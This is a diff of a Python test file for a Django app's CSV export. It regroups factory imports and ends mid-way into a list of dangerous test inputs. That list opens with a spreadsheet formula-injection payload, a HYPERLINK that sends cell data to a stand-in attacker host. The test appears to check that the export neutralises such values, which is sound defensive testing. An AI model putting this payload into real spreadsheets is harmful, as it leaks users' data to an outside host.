@@ -7,8 +7,15 @@ import pytest
 from django.urls import reverse
 
 from cohorts.csv_export import spreadsheet_safe, stream_csv
-from tests.factories import make_bank, make_exam, make_user, take
-from tests.test_cohort_factories import bulk_history, make_cohort, make_lead
+from tests.factories import (
+    bulk_history,
+    make_bank,
+    make_cohort,
+    make_exam,
+    make_lead,
+    make_user,
+    take,
+)
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
